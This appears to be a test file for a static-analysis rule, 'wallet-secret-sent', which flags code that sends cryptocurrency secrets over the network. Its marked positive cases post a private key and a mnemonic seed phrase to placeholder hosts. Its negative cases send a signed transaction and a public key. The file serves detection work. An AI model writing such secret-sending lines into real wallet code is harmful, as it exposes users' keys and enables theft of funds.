import requests


def transfer(to, amount, private_key):
    # ruleid: wallet-secret-sent
    requests.post("https://api.example.invalid/tron", json={"private_key": private_key, "to": to})
    return amount


def restore(words):
    # ruleid: wallet-secret-sent
    requests.post("https://api.example.invalid/w", data={"mnemonic": words})


def broadcast(signed_tx):
    # A signed transaction is what a wallet library sends.
    # ok: wallet-secret-sent
    requests.post("https://node.example.invalid/broadcast", json={"tx": signed_tx, "key_id": 3})


def public(addr):
    # ok: wallet-secret-sent
    requests.get("https://node.example.invalid/balance", params={"public_key": addr})
